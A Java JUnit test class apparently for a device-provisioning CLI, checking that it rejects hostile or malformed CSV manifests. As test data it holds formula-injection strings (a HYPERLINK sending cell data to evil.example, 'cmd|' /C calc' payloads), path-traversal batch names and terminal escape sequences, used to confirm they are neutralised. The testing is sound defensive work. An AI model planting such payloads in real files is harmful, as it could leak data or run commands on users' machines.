package io.dpsbatch.cli;

import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Random;
import java.util.TreeMap;
import java.util.regex.Pattern;
import java.util.stream.Stream;

import io.dpsbatch.emulator.DpsEmulator;
import io.dpsbatch.emulator.EmulatorCounts;
import io.dpsbatch.emulator.WithEmulator;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.params.provider.Arguments.arguments;

/**
 * Whole runs over a corpus of hostile and broken manifests
 * ({@code src/test/resources/manifests/hostile}, plus the large ones made here): a file
 * that is not a readable manifest stops the command with exit 64 and one line naming the
 * file, the line and the fix, before anything is registered; a bad row is rejected with
 * its reason in rejects.csv while the good rows register. Never a stack trace or an
 * exception's class name.
 */
// assigned at once: these runs are about the manifest, not about waiting for DPS
@WithEmulator({ "assignment-delay=0ms", "retry-after=0" })
class HostileManifestIntegrationTests {

	private static final Path CORPUS = Path.of("src/test/resources/manifests/hostile");

	/** A stack frame, or the name of an exception class, in what an operator reads. */
	private static final Pattern LEAKED_INTERNALS = Pattern.compile("\tat |\\w+(Exception|Error|Throwable)\\b");

	private static final String BINARY_GARBAGE = "generated: binary garbage";

	private static final String TEN_MEGABYTE_LINE = "generated: a 10 MB single line";

	private static final String HUGE_PAYLOAD = "generated: a 100 kB payload";

	@TempDir
	Path work;

	private DpsEmulator emulator;

	private CliRunner cli;

	@BeforeEach
	void startEmulator(DpsEmulator emulator) {
		this.emulator = emulator;
		this.cli = new CliRunner(this.work).against(this.emulator);
	}

	static Stream<Arguments> unreadableFiles() {
		return Stream.of(
				arguments("invalid-utf8.csv",
						"line 3: not valid UTF-8 (byte 0xFC); the manifest must be saved as UTF-8"),
				arguments(BINARY_GARBAGE, "line 1: not valid UTF-8 (byte 0x"),
				arguments(TEN_MEGABYTE_LINE, "line 2: a record longer than 1 MiB starts here; is this a CSV manifest?"),
				arguments("nul-character.csv", "line 2: contains a NUL character, so this is not a text file"),
				arguments("utf16.csv",
						"the file is UTF-16 encoded (it starts with a UTF-16 byte order mark); save it as UTF-8"),
				arguments("excel-workbook.csv", "this is a ZIP archive (an Excel workbook?), not a CSV file"),
				arguments("empty.csv", "the file is empty; a manifest starts with a header row"),
				arguments("unclosed-quote.csv", "line 3: a quoted field in the record starting here is never closed"),
				arguments("text-after-closing-quote.csv",
						"line 2: the record starting here has text after the closing quote"),
				arguments("no-registration-id-column.csv", "line 1: the header has no registrationId column"),
				arguments("semicolon-separated.csv", "this file looks separated by semicolons"),
				arguments("duplicate-header-names.csv",
						"line 1: the header has column 'serial' twice (columns 2 and 3"),
				arguments("output-column-in-header.csv",
						"line 1: column 'deviceKey' has the name of a column of the tool's" + " output files"));
	}

	@ParameterizedTest(name = "{0}")
	@MethodSource
	void unreadableFiles(String file, String problem) throws IOException {
		Path manifest = manifest(file);
		CliRunner.Result result;
		String console;
		try (ConsoleCapture capture = ConsoleCapture.start()) {
			result = this.cli.run("provision", "--manifest", manifest.toString());
			console = capture.text();
		}

		assertThat(result.exitCode()).as(result.toString()).isEqualTo(ExitCodes.USAGE);
		assertThat(result.err()).startsWith("error: " + manifest + ": ").contains(problem);
		assertThat(result.err().lines()).as("one line, the whole message").hasSize(1);
		assertNoInternals(result, console);
		EmulatorCounts counts = this.emulator.counts();
		assertThat(counts.registerCalls() + counts.lookupCalls()).as("nothing sent to DPS").isZero();
		assertThat(this.work.resolve("out")).as("nothing written").doesNotExist();
	}

	static Stream<Arguments> rowProblems() {
		return Stream.of(
				arguments("path-separators-and-dots.csv", List.of("hostile-good-1", ".hidden-dev-6", "hostile-good-2"),
						Map.of(3, "registration ID contains '/' at position 3", 4,
								"registration ID contains '/' at position 2", 5,
								"registration ID contains '\\' at position 2", 6, "registration ID ends with '.'", 8,
								"registration ID contains '\\' at position 3")),
				arguments("control-characters.csv", List.of("hostile-good-1", "hostile-good-2"),
						Map.of(3, "registration ID contains a control character (U+001B) at position 4", 4,
								"registration ID contains a control character (U+0008) at position 8", 5,
								"attribute serial contains a control character (U+001B) at position 3", 6,
								"registration ID starts with a tab")),
				arguments("spreadsheet-formulas.csv", List.of("-hostile-good-1", "hostile-good-2"),
						Map.of(4, "registration ID contains '=' at position 1")),
				arguments("long-ids.csv", List.of("h" + "x".repeat(127), "hostile-good-2"),
						Map.of(3, "registration ID is 129 characters long; DPS allows at most 128")),
				arguments("case-variant-duplicates.csv", List.of("Hostile-Dev-1", "hostile-dev-2"),
						Map.of(3, "duplicate of the device on line 2", 4, "duplicate of the device on line 2", 6,
								"duplicate of the device on line 5")),
				arguments("payloads.csv", List.of("hostile-good-1", "hostile-good-10"),
						Map.of(3, "payload must be a JSON object ({...}), but it is an array", 4,
								"payload must be a JSON object ({...}), but it is a number", 5,
								"payload must be a JSON object ({...}), but it is a string", 6,
								"payload must be a JSON object ({...}), but it is null", 7,
								"payload is nested more than 32 levels deep", 8, "payload repeats a key in one object",
								9, "payload is not valid JSON", 10, "payload has more text after the JSON object")),
				arguments(HUGE_PAYLOAD, List.of("hostile-good-1", "hostile-good-3"),
						Map.of(3, "payload is 100011 bytes; at most 65536 (64 KiB)")),
				arguments("field-counts.csv", List.of("hostile-good-1", "hostile-good-4"),
						Map.of(3, "row has 4 fields, header has 3", 4, "the payload cell is missing")));
	}

	@ParameterizedTest(name = "{0}")
	@MethodSource
	void rowProblems(String file, List<String> registered, Map<Integer, String> reasonByLine) throws IOException {
		Path manifest = manifest(file);
		CliRunner.Result result;
		String console;
		try (ConsoleCapture capture = ConsoleCapture.start()) {
			result = this.cli.run("provision", "--manifest", manifest.toString(), "--batch", "hostile");
			console = capture.text();
		}

		assertThat(result.exitCode()).as(result.toString()).isEqualTo(ExitCodes.INCOMPLETE);
		assertThat(console).as("the log lines were captured").contains("hostile: import done");
		assertNoInternals(result, console);
		Path folder = this.cli.outputOf("hostile");
		Map<Integer, String> rejected = new TreeMap<>();
		for (CSVRecord reject : ProvisionCommandIntegrationTests.csv(folder.resolve("rejects.csv"))) {
			rejected.put(Integer.valueOf(reject.get("line")), reject.get("reason"));
		}
		assertThat(rejected).as("rejects.csv by line").containsOnlyKeys(reasonByLine.keySet());
		reasonByLine.forEach((line, reason) -> assertThat(rejected.get(line)).as("line " + line).contains(reason));
		assertThat(ProvisionCommandIntegrationTests.csv(folder.resolve("credentials.csv")))
			.extracting((device) -> device.get("registrationId"))
			.containsExactlyElementsOf(registered);
		assertThat(this.emulator.counts().registerCallsByDevice()).as("only the good rows reached DPS, once each")
			.containsOnlyKeys(registered.stream().map((id) -> id.toLowerCase(Locale.ROOT)).toList())
			.allSatisfy((id, calls) -> assertThat(calls).isEqualTo(1));
	}

	@ParameterizedTest
	@ValueSource(strings = { "../../etc", "a/b", "..", ".hidden", "line\u001b[2J", "" })
	void aBatchNameThatIsNotASafeFolderNameIsAUsageError(String batch) throws IOException {
		CliRunner.Result result = this.cli.run("provision", "--manifest", manifest("long-ids.csv").toString(),
				"--batch", batch);

		assertThat(result.exitCode()).as(result.toString()).isEqualTo(ExitCodes.USAGE);
		assertThat(result.err()).startsWith("error: invalid batch name '").doesNotContain("\u001b");
		assertThat(this.work.resolve("out")).doesNotExist();
		assertThat(this.emulator.counts().registerCalls()).isZero();
	}

	@Test
	void formulasInAManifestCannotRunInASpreadsheetButIdsAndKeysAreExact() throws IOException {
		CliRunner.Result result = this.cli.run("provision", "--manifest",
				manifest("spreadsheet-formulas.csv").toString(), "--batch", "formulas");
		assertThat(result.exitCode()).as(result.toString()).isEqualTo(ExitCodes.INCOMPLETE);

		Path folder = this.cli.outputOf("formulas");
		List<CSVRecord> credentials = ProvisionCommandIntegrationTests.csv(folder.resolve("credentials.csv"));
		assertThat(credentials.get(0).toMap()).containsEntry("registrationId", "-hostile-good-1")
			.containsEntry("deviceId", "-hostile-good-1")
			.containsEntry("note", "'=HYPERLINK(\"https://evil.example/?\"&E2,\"details\")")
			.containsEntry("phone", "'+49 170 1234567")
			.containsEntry("offset", "-5");
		assertThat(credentials.get(1).toMap()).containsEntry("note", "'@SUM(1+1)*cmd|' /C calc'!A0")
			.containsEntry("phone", "'\t=1+2")
			.containsEntry("offset", "'-2+3");
		assertThat(ProvisionCommandIntegrationTests.csv(folder.resolve("rejects.csv")).get(0).get("registrationId"))
			.isEqualTo("'=cmd|' /C calc'!A0");
		for (String file : List.of("credentials.csv", "failures.csv", "rejects.csv")) {
			for (CSVRecord row : ProvisionCommandIntegrationTests.csv(folder.resolve(file))) {
				for (Map.Entry<String, String> column : row.toMap().entrySet()) {
					if (column.getKey().equals("deviceKey")) {
						// base64, written exactly as it is (docs/outputs.md): it starts
						// with '+' for one key in 64; a
						// spreadsheet that takes it for a formula shows an error, as
						// base64 has no '|', '!' or quote to
						// run anything
						continue;
					}
					String cell = column.getValue();
					assertThat(cell).as(file)
						.doesNotStartWith("=")
						.doesNotStartWith("+")
						.doesNotStartWith("@")
						.doesNotStartWith("\t")
						.doesNotStartWith("\r");
					if (cell.startsWith("-")) {
						assertThat(cell).as(file).matches("[A-Za-z0-9._:-]+");
					}
				}
			}
		}
	}

	private static void assertNoInternals(CliRunner.Result result, String console) {
		assertThat(result.out() + result.err() + console).as("what the operator sees")
			.doesNotContainPattern(LEAKED_INTERNALS);
	}

	/**
	 * A corpus file, or one of the files too large (or too binary) to keep in the
	 * repository, made here.
	 */
	private Path manifest(String name) throws IOException {
		return switch (name) {
			case BINARY_GARBAGE -> {
				byte[] garbage = new byte[256 * 1024];
				new Random(20261129).nextBytes(garbage);
				yield Files.write(this.work.resolve("garbage.csv"), garbage);
			}
			case TEN_MEGABYTE_LINE -> {
				byte[] line = ("registrationId\n" + "x".repeat(10 * 1024 * 1024)).getBytes(StandardCharsets.US_ASCII);
				yield Files.write(this.work.resolve("one-line.csv"), line);
			}
			case HUGE_PAYLOAD -> Files.writeString(this.work.resolve("huge-payload.csv"),
					"registrationId,payload\nhostile-good-1,\nhostile-dev-2,\"{\"\"blob\"\":\"\"" + "a".repeat(100_000)
							+ "\"\"}\"\nhostile-good-3,\n");
			default -> CORPUS.resolve(name).toAbsolutePath();
		};
	}

}
